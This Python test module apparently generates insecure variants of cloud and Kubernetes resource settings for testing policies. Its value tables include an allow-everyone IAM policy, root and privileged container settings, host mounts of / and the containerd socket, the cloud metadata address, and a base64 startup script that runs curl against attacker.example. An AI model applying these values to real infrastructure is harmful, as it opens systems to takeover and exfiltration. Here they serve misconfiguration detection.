"""Changes of one property, made from its type: switched, emptied, shortened, opened to everybody, removed, or added."""

import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any

from tests.policy.attacks.mutation import GONE, Step, written
from tests.policy.attacks.sdk import Property
from tests.policy.attacks.stacks import ACCOUNT, STRANGER

ANYONE = (
    '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}]}'
)
_MOST_VALUES = 6
_DEEPEST = 3
# What a string or a list of strings becomes, by its name.
_BY_NAME: tuple[tuple[re.Pattern[str], tuple[str, ...]], ...] = (
    (re.compile(r"ipv6.*cidr|cidr.*ipv6", re.I), ("::/0",)),
    (re.compile(r"cidr|ipranges|sourceip|externalips", re.I), ("0.0.0.0/0",)),
    (re.compile(r"^(access|resource|topic|bucket|queue|assumeRole)?policy(document)?$", re.I), (ANYONE,)),
    (re.compile(r"principals?$", re.I), ("*",)),
    (
        re.compile(r"(role|user|account|kms|key|topic|function|target|vault|owner).*arns?$", re.I),
        (f"arn:aws:iam::{STRANGER}:role/stranger",),
    ),
    (re.compile(r"(accountid|ownerid|accountids|awsaccounts|sharedaccounts)s?$", re.I), (STRANGER,)),
    (re.compile(r"(endpoint|url|uri)s?$", re.I), ("https://attacker.example",)),
    (re.compile(r"(publickey|keypair|keyname|sshkey|ec2sshkey)$", re.I), ("attacker",)),
    (re.compile(r"(userdata|userdatabase64|startupscript)$", re.I), ("IyEvYmluL3NoCmN1cmwgYXR0YWNrZXIuZXhhbXBsZQ==",)),
    (re.compile(r"(password|secretkey|secretstring|plaintext|token)$", re.I), ("hunter2",)),
)
# By the class that has it, where the name alone says too little.
_BY_OWNER: dict[str, tuple[Any, ...]] = {
    "PodSpec.nodeName": ("node-1",),
    "PodSpec.priorityClassName": ("system-node-critical", "system-cluster-critical"),
    "PodSpec.priority": (2000000000,),
    "PodSpec.runtimeClassName": ("runc-privileged",),
    "PodSpec.schedulerName": ("attacker",),
    "PodSpec.serviceAccountName": ("default", "trainer", "reidentifier"),
    "PodSpec.serviceAccount": ("default", "trainer"),
    "PodSpec.dnsPolicy": ("Default", "None"),
    "PodSpec.restartPolicy": ("Always",),
    "PodDNSConfig.nameservers": ("203.0.113.5",),
    "PodDNSConfig.searches": ("attacker.example",),
    "HostAlias.ip": ("203.0.113.5",),
    "HostAlias.hostnames": ("vault.healthcare-mlops.example",),
    "Toleration.operator": ("Exists",),
    "Toleration.key": ("node-role.kubernetes.io/control-plane", "healthcare-mlops/node-class"),
    "Toleration.effect": ("NoExecute",),
    "Container.image": (
        "docker.io/library/alpine:latest",
        "alpine",
        "attacker.example/x@sha256:" + "b" * 64,
        f"{STRANGER}.dkr.ecr.us-east-1.amazonaws.com/x@sha256:" + "b" * 64,
        f"{ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/hmlops-prod/workloads:latest",
    ),
    "Container.imagePullPolicy": ("Never",),
    "Container.command": ("sh",),
    "Container.args": ("--insecure",),
    "Container.workingDir": ("/etc",),
    "Container.terminationMessagePath": ("/etc/passwd",),
    "ContainerPort.hostIP": ("0.0.0.0",),
    "ContainerPort.hostPort": (22, 8080),
    "ContainerPort.containerPort": (22, 9),
    "EnvVar.value": ("hunter2",),
    "SecurityContext.procMount": ("Unmasked",),
    "Capabilities.add": ("ALL", "SYS_ADMIN", "NET_ADMIN", "NET_BIND_SERVICE"),
    "Capabilities.drop": ("NET_RAW",),
    "SeccompProfile.type": ("Unconfined", "Localhost"),
    "SeccompProfile.localhostProfile": ("open.json",),
    "AppArmorProfile.type": ("Unconfined", "Localhost"),
    "AppArmorProfile.localhostProfile": ("open",),
    "SELinuxOptions.type": ("spc_t",),
    "SELinuxOptions.user": ("system_u",),
    "SELinuxOptions.role": ("sysadm_r",),
    "SELinuxOptions.level": ("s0:c0.c1023",),
    "SecurityContext.runAsUser": (0,),
    "SecurityContext.runAsGroup": (0,),
    "PodSecurityContext.runAsUser": (0,),
    "PodSecurityContext.runAsGroup": (0,),
    "PodSecurityContext.fsGroup": (0,),
    "PodSecurityContext.supplementalGroups": (0,),
    "PodSecurityContext.supplementalGroupsPolicy": ("Merge",),
    "Sysctl.name": ("kernel.msgmax",),
    "HostPathVolumeSource.path": ("/", "/var/run/containerd/containerd.sock", "/etc/kubernetes", "/var/lib/kubelet"),
    "SecretVolumeSource.secretName": ("gateway-tls", "vault-token"),
    "SecretProjection.name": ("gateway-tls",),
    "ConfigMapVolumeSource.name": ("kube-root-ca.crt",),
    "PersistentVolumeClaimVolumeSource.claimName": ("raw",),
    "NFSVolumeSource.server": ("203.0.113.5",),
    "CSIVolumeSource.driver": ("attacker.example",),
    "EmptyDirVolumeSource.medium": ("HugePages",),
    "ServiceAccountTokenProjection.audience": (
        "https://kubernetes.default.svc",
        "sts.amazonaws.com",
        "attacker.example",
    ),
    "ServiceAccountTokenProjection.expirationSeconds": (31536000,),
    "VolumeMount.mountPath": ("/", "/var/run/secrets/kubernetes.io/serviceaccount", "/etc"),
    "VolumeMount.mountPropagation": ("Bidirectional", "HostToContainer"),
    "VolumeMount.subPath": ("..",),
    "VolumeDevice.devicePath": ("/dev/sda",),
    "ExecAction.command": ("sh",),
    "HTTPGetAction.host": ("203.0.113.5", "169.254.169.254"),
    "TCPSocketAction.host": ("203.0.113.5",),
    "LocalObjectReference.name": ("gateway-tls",),
    "SecretEnvSource.name": ("gateway-tls",),
    "SecretKeySelector.name": ("gateway-tls",),
    "GitRepoVolumeSource.repository": ("https://attacker.example/x.git",),
    "ISCSIVolumeSource.targetPortal": ("203.0.113.5",),
    "FlexVolumeSource.driver": ("attacker/x",),
    "ImageVolumeSource.reference": ("docker.io/library/alpine:latest",),
}
# Metadata and tags have a family of their own.
_ELSEWHERE = {("tags",), ("metadata",), ("tagsAll",)}
_IDENTITY = re.compile(r"^(name|id|arn|apiVersion|kind|region|description|displayName|.*Prefix)$")


@dataclass(frozen=True)
class Widening:
    """One change of one property.

    Parameters
    ----------
    operation
        What is done.
    steps
        The place.
    value
        The new value, `GONE` where there is none any more.
    """

    operation: str
    steps: tuple[Step, ...]
    value: Any


def widenings(
    properties: Mapping[str, Property], props: Mapping[str, Any], steps: tuple[Step, ...] = ()
) -> Iterator[Widening]:
    """Return the changes of every property of an object, those that are absent included."""
    for name, prop in properties.items():
        if not steps and _IDENTITY.match(name):
            continue
        place = (*steps, name)
        if place in _ELSEWHERE:
            continue
        value = props.get(name)
        if value is None:
            yield from _absent(prop, place, len(steps))
        else:
            if not prop.required:
                yield Widening(f"remove {written(place)}", place, GONE)
            yield from _present(prop, place, value)


def _present(prop: Property, place: tuple[Step, ...], value: Any) -> Iterator[Widening]:
    named = written(place)
    if isinstance(value, bool):
        yield Widening(f"switch {named}", place, not value)
    elif isinstance(value, int | float):
        yield from _numbers(prop, place, value)
    elif isinstance(value, str):
        for other in _other_texts(prop, value):
            yield Widening(_told(prop, named, other), place, other)
    elif isinstance(value, list):
        yield from _lists(prop, place, value)
    elif isinstance(value, Mapping):
        if prop.shape == "map":
            yield Widening(f"empty {named}", place, {})
        else:
            yield from widenings(prop.fields, value, place)


def _numbers(prop: Property, place: tuple[Step, ...], value: float) -> Iterator[Widening]:
    named = written(place)
    for other in _texts(prop):
        yield Widening(f"set {named} to {other}", place, other)
    for operation, other in (("lower", 1 if value > 1 else 0), ("zero", 0), ("raise", max(int(value) * 1000, 100000))):
        if other != value:
            yield Widening(f"{operation} {named}", place, other)


def _lists(prop: Property, place: tuple[Step, ...], value: list[Any]) -> Iterator[Widening]:
    named = written(place)
    if not prop.required:
        yield Widening(f"empty {named}", place, [])
    for position, item in enumerate(value[:2]):
        inner = (*place, position)
        if len(value) > 1:
            yield Widening(f"remove one of {named}", inner, GONE)
        if isinstance(item, Mapping):
            yield from widenings(prop.fields, item, inner)
    for other in _texts(prop):
        yield Widening(f"add {_short(other)} to {named}", place, [*value, other])
    if prop.fields and value:
        for change in widenings(prop.fields, {}, (*place, len(value))):
            yield Widening(f"one more of {named}: {change.operation}", change.steps, change.value)


def _absent(prop: Property, place: tuple[Step, ...], depth: int) -> Iterator[Widening]:
    named = written(place)
    if prop.type is bool and prop.shape == "one":
        value = not prop.true_by_default
        yield Widening(f"set {named} to {str(value).lower()}", place, value)
    elif prop.shape == "map":
        return
    elif prop.type is str or _texts(prop):
        for other in (*_texts(prop), *prop.values[:_MOST_VALUES]):
            yield Widening(_told(prop, named, other), place, [other] if prop.shape == "list" else other)
    elif prop.fields and depth < _DEEPEST:
        inner: tuple[Step, ...] = (*place, 0) if prop.shape == "list" else place
        yield from widenings(prop.fields, {}, inner)


def _other_texts(prop: Property, value: str) -> Iterator[str]:
    texts = dict.fromkeys((*_texts(prop), *prop.values[:_MOST_VALUES]))
    if ACCOUNT in value:
        texts[value.replace(ACCOUNT, STRANGER)] = None
    if not texts and not _IDENTITY.match(prop.name):
        texts[f"{value}-other"] = None
    return (text for text in texts if text != value)


def _texts(prop: Property) -> tuple[Any, ...]:
    by_owner = _BY_OWNER.get(f"{prop.owner}.{prop.name}")
    if by_owner is not None:
        return by_owner
    if prop.type is not str:
        return ()
    return next((values for pattern, values in _BY_NAME if pattern.search(prop.name)), ())


def _told(prop: Property, named: str, value: Any) -> str:
    if value in prop.values or value in _texts(prop):
        return f"set {named} to {_short(value)}"
    return f"set {named} to another account's" if STRANGER in str(value) else f"set {named} to another value"


def _short(value: Any) -> str:
    value = str(value)
    return "a policy for everybody" if value == ANYONE else value if len(value) < 40 else f"{value[:30]}…"
